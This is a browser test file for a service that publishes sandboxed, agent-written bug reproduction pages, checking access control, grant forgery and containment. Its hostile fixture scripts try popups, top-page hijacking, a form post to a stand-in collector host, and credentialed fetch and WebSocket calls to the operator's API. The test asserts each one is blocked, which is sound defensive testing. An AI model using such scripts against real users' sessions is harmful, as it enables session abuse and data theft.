/**
 * A maintainer clicks a published reproduction in a real browser (Debian's
 * Chromium driven by playwright-core), against a real `wrangler dev` behind
 * Cloudflare Access that posts to the recording GitHub stand-in.
 *
 * The page is what the reproduce skill publishes: an index.html whose
 * button is wired by a module script it loads by relative URL
 * (`<script type=module crossorigin src=./assets/app.js>`). Its address
 * answers the Worker's wrapper: a fixed header that names the run's
 * repository and issue, over an `<iframe sandbox="allow-scripts">` holding
 * the model's page. The page is sandboxed (an opaque origin), so its script
 * loads cross-origin and without any cookie: the click working proves it
 * loaded. A top-level visit to the model's index.html lands on the wrapper.
 *
 * A public repository's page is open to anyone with its unguessable
 * address; the old per-session address is gone. A private repository's is
 * behind Access: refused without it, and with the operator's Access cookie
 * redirected to a granted address under which the wrapper, the page and its
 * assets are served (the grant is the credential, so it must not be
 * forgeable).
 *
 * A page cannot act for its author: a script that opens a popup, navigates
 * the top page, submits a form, navigates its own frame elsewhere and calls
 * alert() does none of it (no new page, the top URL unchanged, no request to
 * any of those hosts, no dialog), while its own button works. And it stays
 * home: its Content-Security-Policy lets it fetch nothing and open no
 * socket, so a page whose script tries the Worker's API and the command
 * center's socket, in a browser holding the operator's Access cookie, sends
 * neither request and still runs. Screenshots land in
 * test-results/screenshots/.
 */
import type { BrowserContext, Frame, FrameLocator, Page, Request } from "playwright-core";
import { describe, expect } from "vitest";
import { freshIssueNumber, waitForSubmission, type DispatchBody } from "./dev-api";
import { SHOTS, useChromium } from "./support/browser";
import { ACCESS_COOKIE } from "./support/access-issuer";
import { dispatchRun, test, waitForClosingComment, type ReportingServer } from "./support/reporting-server";

const CLICK_TIMEOUT_MS = 10_000;
const REPO = "acme/repro-pages";

const PAGE = [
  "<!doctype html><title>repro</title>",
  "<h1>Counter repro</h1><button id=trigger>Trigger bug</button><p id=out>not clicked</p>",
  "<script type=module crossorigin src=./assets/app.js></script>"
].join("");
const SCRIPT = [
  "document.getElementById('trigger').addEventListener('click', () => {",
  "  document.body.dataset.clicked = 'yes';",
  "  document.getElementById('out').textContent = 'clicked: expected 2, actual 3';",
  "});"
].join(" ");
const publishing = (script: string) =>
  [
    `TEST: write /workspace/repro/dist/index.html ${PAGE}`,
    `TEST: write /workspace/repro/dist/assets/app.js ${script}`,
    "TEST: publish /workspace/repro/dist",
    "TEST: reply published"
  ].join("\n");

/**
 * A page that, on its button, tries to act for its author: a popup, the
 * top page's address, a form posted elsewhere and a dialog; what each call
 * answered lands in data attributes. Its second button takes its own frame
 * to another site.
 */
const HOSTILE_SCRIPT = [
  "const tried = {};",
  "const leave = document.createElement('button'); leave.id = 'leave'; leave.textContent = 'Leave';",
  "leave.addEventListener('click', () => { location = 'https://elsewhere.example/away'; }); document.body.append(leave);",
  "const attempt = (name, call) => { try { const answer = call(); tried[name] = answer === null ? 'null' : typeof answer; } catch (error) { tried[name] = 'threw ' + error.name; } };",
  "document.getElementById('trigger').addEventListener('click', () => {",
  "  attempt('popup', () => window.open('https://popup.example/opened', '_blank'));",
  "  attempt('top', () => { top.location = 'https://top.example/taken'; });",
  "  attempt('form', () => { const form = document.createElement('form'); form.method = 'post'; form.action = 'https://forms.example/collect';",
  "    const input = document.createElement('input'); input.name = 'what'; input.value = 'the page'; form.append(input); document.body.append(form); form.submit(); });",
  "  attempt('dialog', () => alert('from the page'));",
  "  Object.assign(document.body.dataset, tried);",
  "  document.getElementById('out').textContent = 'clicked: expected 2, actual 3';",
  "  document.body.dataset.clicked = 'yes';",
  "});"
].join(" ");
const ELSEWHERE = ["popup.example", "top.example", "forms.example", "elsewhere.example"];

/**
 * A page that, on its button, tries the Worker's own origin as a hostile
 * page would: the API with credentials, and the command center's socket.
 * What happened lands in data attributes; a CSP violation is an event.
 */
const PROBE_SCRIPT = [
  "const violations = [];",
  "document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective + ' ' + event.blockedURI));",
  "const worker = new URL(document.baseURI).origin;",
  "document.getElementById('trigger').addEventListener('click', async () => {",
  "  let fetched; try { const response = await fetch(worker + '/api/command-center', { credentials: 'include' }); fetched = 'answered ' + response.status; } catch (error) { fetched = 'failed: ' + error.name; }",
  "  const socket = await new Promise((resolve) => { try { const ws = new WebSocket(worker.replace('http', 'ws') + '/agents/command-center-agent/main'); ws.onopen = () => resolve('open'); ws.onerror = () => resolve('error'); } catch (error) { resolve('threw: ' + error.name); } });",
  "  await new Promise((resolve) => setTimeout(resolve, 200));",
  "  Object.assign(document.body.dataset, { fetched, socket, violations: violations.join(' | ') });",
  "  document.getElementById('out').textContent = 'clicked: expected 2, actual 3';",
  "  document.body.dataset.clicked = 'yes';",
  "});"
].join(" ");

const PUBLICATION_ID = "[0-9a-f]{32}";
/** `<id>.<expires, epoch seconds>.<base64url HMAC-SHA256>` (src/repro/grant.ts). */
const GRANTED = new RegExp(`^/repro/private/(${PUBLICATION_ID})\\.([0-9]+)\\.([A-Za-z0-9_-]{43})/$`);

const browser = useChromium();

/** Publishes the page for a fresh issue and returns the URL the publish tool gave the model, the issue, and the run's closing comment. */
async function publish(server: ReportingServer, repoVisibility?: DispatchBody["repoVisibility"], instruction = publishing(SCRIPT)) {
  const issueNumber = freshIssueNumber();
  const run = await dispatchRun(server, {
    repo: REPO,
    issueNumber,
    commentId: freshIssueNumber(),
    instruction,
    ...(repoVisibility ? { repoVisibility } : {})
  });
  const settled = await waitForSubmission(server.url, run, { credentials: await server.jwtHeader() });
  expect(settled.submission.status, server.output()).toBe("completed");
  const published = settled.messages
    .flatMap((message) => message.parts)
    .find((part) => part.type === "tool-publish_reproduction");
  const output = published?.output as { published?: boolean; url?: string; error?: string } | undefined;
  expect(output, JSON.stringify(published)).toMatchObject({ published: true, url: expect.any(String) });
  const url = new URL(output!.url!);
  // PUBLIC_BASE_URL is the dev server's own URL (wranglerDevArgs): the link works as given.
  expect(url.origin).toBe(new URL(server.url).origin);
  const closing = await waitForClosingComment(server.github, run.submissionId);
  return { run, issueNumber, url, closing };
}

/** A fresh browser context: no cookies unless given; every request, popup, dialog and console line recorded. */
async function openContext(cookies: Parameters<BrowserContext["addCookies"]>[0] = []) {
  const context = await browser().newContext({ viewport: { width: 900, height: 500 } });
  if (cookies.length > 0) await context.addCookies(cookies);
  const requests: Request[] = [];
  context.on("request", (request) => requests.push(request));
  const page = await context.newPage();
  const popups: Page[] = [];
  context.on("page", (opened) => popups.push(opened));
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const errors: string[] = [];
  page.on("pageerror", (error) => errors.push(error.message));
  const console: string[] = [];
  page.on("console", (message) => console.push(message.text()));
  const scripts = () => requests.filter((request) => request.url().endsWith("/assets/app.js"));
  return { context, page, requests, scripts, popups, dialogs, errors, console };
}

/** The wrapper as a reader sees it: the header above the frame, naming the run and the issue; the frame sandboxed to scripts. */
async function expectWrapper(page: Page, issueNumber: number): Promise<FrameLocator> {
  const header = page.locator("header#agent-think-repro");
  await header.waitFor({ state: "visible" });
  const text = await header.innerText();
  expect(text).toContain(`A reproduction written by an agent-think run for ${REPO}#${issueNumber}, not by the repository's maintainers.`);
  expect(await header.locator("a").getAttribute("href")).toBe(`https://github.com/${REPO}/issues/${issueNumber}`);
  const frame = page.locator("iframe");
  expect(await frame.count()).toBe(1);
  expect(await frame.getAttribute("sandbox")).toBe("allow-scripts");
  const [above, below] = [await header.boundingBox(), await frame.boundingBox()];
  expect(above!.height).toBeGreaterThan(0);
  expect(above!.y + above!.height).toBeLessThanOrEqual(below!.y);
  expect(below!.height).toBeGreaterThan(100);
  return page.frameLocator("iframe");
}

/** The model's page's frame (the one child of the wrapper). */
function modelFrame(page: Page): Frame {
  const [frame] = page.mainFrame().childFrames();
  if (!frame) throw new Error("the wrapper has no frame");
  return frame;
}

async function clickAndSeeTheScriptRun(frame: FrameLocator): Promise<void> {
  await frame.locator("#trigger").click();
  await expect.poll(() => frame.locator("body").getAttribute("data-clicked"), { timeout: CLICK_TIMEOUT_MS }).toBe("yes");
  expect(await frame.locator("#out").textContent()).toBe("clicked: expected 2, actual 3");
}

async function fetchWithoutCredentials(url: string, headers: Record<string, string> = {}): Promise<{ status: number; text: string; headers: Headers }> {
  const response = await fetch(url, { redirect: "manual", headers });
  return { status: response.status, text: await response.text(), headers: response.headers };
}

describe("a public repository's reproduction", () => {
  test("opens without Access at its own address under the run's header, and its button runs the page's module script", async ({ reportingServer: server }) => {
    const { run, issueNumber, url, closing } = await publish(server, "public");
    expect(url.pathname).toMatch(new RegExp(`^/repro/${PUBLICATION_ID}/$`));
    expect(closing).toContain(`**Reproduction:** ${url.href}`);

    const { context, page, requests, scripts, errors } = await openContext();
    const response = await page.goto(url.href);
    expect(response?.status()).toBe(200);
    expect(response?.headers()["content-security-policy"]).toMatch(/^default-src 'none'; script-src 'none'; /);
    const frame = await expectWrapper(page, issueNumber);
    await clickAndSeeTheScriptRun(frame);
    // The frame asked for the model's document as a frame, and got it sandboxed to scripts, framed only by this origin.
    const framed = requests.find((request) => request.url() === `${url.href}index.html`);
    expect((await framed!.allHeaders())["sec-fetch-dest"]).toBe("iframe");
    const policy = (await framed!.response())!.headers()["content-security-policy"] ?? "";
    expect(policy).toMatch(/^sandbox allow-scripts; /);
    expect(policy).toContain(`frame-ancestors ${url.origin}`);
    expect(scripts().map((request) => new URL(request.url()).pathname)).toEqual([`${url.pathname}assets/app.js`]);
    expect(errors).toEqual([]);
    await page.screenshot({ path: `${SHOTS}/repro-public.png` });

    // A top-level visit to the model's document lands on the wrapper.
    await page.goto(`${url.href}index.html`);
    expect(page.url()).toBe(url.href);
    await clickAndSeeTheScriptRun(await expectWrapper(page, issueNumber));
    await context.close();

    // A client that sends no Sec-Fetch-* gets the wrapper too, never the model's document.
    const raw = await fetchWithoutCredentials(url.href);
    expect(raw.status, raw.text).toBe(200);
    expect(raw.text).toContain(`${REPO}#${issueNumber}`);
    expect(raw.text).not.toContain("Trigger bug");
    const rawDocument = await fetchWithoutCredentials(`${url.href}index.html`);
    expect([rawDocument.status, rawDocument.headers.get("location")]).toEqual([302, url.href]);
    // The old address was the session name: guessable from the issue, so never served.
    const old = await fetchWithoutCredentials(`${server.url}/repro/${run.session}/`);
    expect(old.status, old.text).toBe(404);
  });
});

describe("a reproduction page cannot act for its author", () => {
  test("opens no popup, leaves the top page where it is, submits no form, cannot take its frame elsewhere and shows no dialog; its button still works", async ({
    reportingServer: server
  }) => {
    const { issueNumber, url } = await publish(server, "public", publishing(HOSTILE_SCRIPT));
    const { context, page, requests, popups, dialogs, errors, console } = await openContext();
    await page.goto(url.href);
    const frame = await expectWrapper(page, issueNumber);
    await clickAndSeeTheScriptRun(frame);
    const body = frame.locator("body");
    const tried = Object.fromEntries(await Promise.all(["popup", "top", "form", "dialog"].map(async (name) => [name, await body.getAttribute(`data-${name}`)])));
    await page.screenshot({ path: `${SHOTS}/repro-cannot-act.png` });

    // The frame tries to go elsewhere, and is refused by the wrapper's frame-src (the browser then shows its own error page in the frame).
    await frame.locator("#leave").click();
    const framing = () => console.filter((text) => text.includes("https://elsewhere.example") && text.includes(`frame-src ${url.href}`));
    await expect.poll(() => framing().length, { timeout: CLICK_TIMEOUT_MS }).toBeGreaterThan(0);
    await page.waitForTimeout(500);
    expect(popups).toEqual([]);
    expect(context.pages()).toEqual([page]);
    expect(page.url()).toBe(url.href);
    expect(page.mainFrame().childFrames()).toHaveLength(1);
    expect(modelFrame(page).url()).not.toContain("elsewhere.example");
    expect(dialogs).toEqual([]);
    const away = requests.map((request) => request.url()).filter((address) => ELSEWHERE.some((host) => new URL(address).hostname === host));
    expect(away).toEqual([]);
    expect(requests.every((request) => new URL(request.url()).origin === url.origin), requests.map((request) => request.url()).join("\n")).toBe(true);
    // window.open answered null and the top page's address threw; the rest were refused by the browser, each saying why.
    expect(tried).toEqual({ popup: "null", top: "threw SecurityError", form: "undefined", dialog: "undefined" });
    const said = console.join("\n");
    expect(said).toContain("Blocked opening 'https://popup.example/opened' in a new window");
    expect(said).toMatch(/navigation of the top-level window is sandboxed, but the flag of 'allow-top-navigation'/);
    expect(said).toContain("Blocked form submission to 'https://forms.example/collect'");
    expect(said).toMatch(/Ignored call to 'alert\(\)'.*'allow-modals'/);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe("a private repository's reproduction", () => {
  test("is behind Access; with the Access cookie it redirects to a granted address where the wrapper, the page and its script load", async ({ reportingServer: server }) => {
    const { issueNumber, url, closing } = await publish(server);
    const match = new RegExp(`^/repro/private/(${PUBLICATION_ID})/$`).exec(url.pathname);
    expect(match, url.href).not.toBeNull();
    const id = match![1]!;
    expect(closing).toContain(`**Reproduction:** ${url.href}`);

    const refused = await fetchWithoutCredentials(url.href);
    expect(refused.status, refused.text).toBe(403);
    expect(refused.text).not.toContain(REPO);
    const refusedFrame = await fetchWithoutCredentials(`${url.href}index.html`, { "sec-fetch-dest": "iframe" });
    expect(refusedFrame.status, refusedFrame.text).toBe(403);

    const { context, page, scripts, errors } = await openContext([{ name: ACCESS_COOKIE, value: await server.access.sign(), url: server.url }]);
    const response = await page.goto(url.href);
    expect(response?.status()).toBe(200);
    const first = response?.request().redirectedFrom();
    expect(first?.url()).toBe(url.href);
    // The browser sent its cookie where it could (so the check on the script below sees headers as sent).
    expect((await first!.allHeaders()).cookie).toContain(`${ACCESS_COOKIE}=`);
    const granted = new URL(page.url());
    const grant = GRANTED.exec(granted.pathname);
    expect(grant, granted.href).not.toBeNull();
    expect(grant![1]).toBe(id);
    expect(Number(grant![2]) * 1000).toBeGreaterThan(Date.now());
    const frame = await expectWrapper(page, issueNumber);
    expect(modelFrame(page).url()).toBe(`${granted.href}index.html`);
    await clickAndSeeTheScriptRun(frame);
    // The script came from under the grant, and the sandboxed page sent it no cookie.
    expect(scripts().map((request) => new URL(request.url()).pathname)).toEqual([`${granted.pathname}assets/app.js`]);
    expect((await scripts()[0]!.allHeaders()).cookie).toBeUndefined();
    expect(errors).toEqual([]);
    await page.screenshot({ path: `${SHOTS}/repro-private.png` });

    // A top-level visit to the private page's document goes through Access and the grant to the wrapper.
    await page.goto(`${url.href}index.html`);
    expect(page.url()).toMatch(new RegExp(`^${server.url}/repro/private/${id}\\.[0-9]+\\.[A-Za-z0-9_-]{43}/$`));
    await clickAndSeeTheScriptRun(await expectWrapper(page, issueNumber));
    await context.close();

    // The grant is the credential: the wrapper, the page (to a frame) and its assets without any cookie.
    const direct = await fetchWithoutCredentials(granted.href);
    expect(direct.status, direct.text).toBe(200);
    expect(direct.text).toContain(`${REPO}#${issueNumber}`);
    const document = await fetchWithoutCredentials(`${granted.href}index.html`, { "sec-fetch-dest": "iframe" });
    expect(document.status, document.text).toBe(200);
    expect(document.text).toContain("Trigger bug");
    const asset = await fetchWithoutCredentials(`${granted.href}assets/app.js`);
    expect(asset.status, asset.text).toBe(200);
    expect(asset.headers.get("access-control-allow-origin")).toBe("*");

    // A grant that was not signed for this: another MAC, or a later expiry with the old MAC.
    const [, , expires, mac] = grant as unknown as [string, string, string, string];
    const flipped = mac[20] === "A" ? "B" : "A";
    const tamperedMac = `${id}.${expires}.${mac.slice(0, 20)}${flipped}${mac.slice(21)}`;
    const laterExpiry = `${id}.${Number(expires) + 3600}.${mac}`;
    for (const segment of [tamperedMac, laterExpiry]) {
      for (const path of ["", "index.html"]) {
        const tampered = await fetchWithoutCredentials(`${server.url}/repro/private/${segment}/${path}`, { "sec-fetch-dest": "iframe" });
        expect(tampered.status, `${segment}/${path}: ${tampered.text}`).toBe(404);
        expect(tampered.text).not.toContain("Trigger bug");
      }
    }
  });
});

describe("a reproduction page stays home", () => {
  test("cannot fetch from or open a socket to the Worker's origin, even with the operator's cookie, and still runs", async ({ reportingServer: server }) => {
    const { issueNumber, url } = await publish(server, "public", publishing(PROBE_SCRIPT));
    const { context, page, requests, errors, console } = await openContext([{ name: ACCESS_COOKIE, value: await server.access.sign(), url: server.url }]);
    const sockets: string[] = [];
    page.on("websocket", (socket) => sockets.push(socket.url()));

    await page.goto(url.href);
    const frame = await expectWrapper(page, issueNumber);
    await clickAndSeeTheScriptRun(frame);

    // Neither request left the browser.
    const toWorker = requests.map((request) => `${request.method()} ${new URL(request.url()).pathname}`).filter((line) => / \/(api|agents)\//.test(line));
    expect(toWorker).toEqual([]);
    expect(sockets).toEqual([]);
    const body = frame.locator("body");
    expect(await body.getAttribute("data-fetched")).toBe("failed: TypeError");
    expect(await body.getAttribute("data-socket")).toMatch(/^(error|threw: SecurityError)$/);
    // …because the page's policy refused both.
    const violations = (await body.getAttribute("data-violations")) ?? "";
    expect(violations).toContain(`connect-src ${server.url}/api/command-center`);
    expect(violations).toContain(`connect-src ${server.url.replace("http", "ws")}/agents/command-center-agent/main`);
    expect(console.filter((text) => text.includes("Content Security Policy")).length).toBeGreaterThanOrEqual(2);
    const framed = requests.find((request) => request.url() === `${url.href}index.html`);
    const policy = (await framed!.response())!.headers()["content-security-policy"] ?? "";
    expect(policy).toMatch(/^sandbox allow-scripts; /);
    expect(policy).toContain("connect-src 'none'");
    expect(errors).toEqual([]);
    await page.screenshot({ path: `${SHOTS}/repro-stays-home.png` });
    await context.close();
  });
});
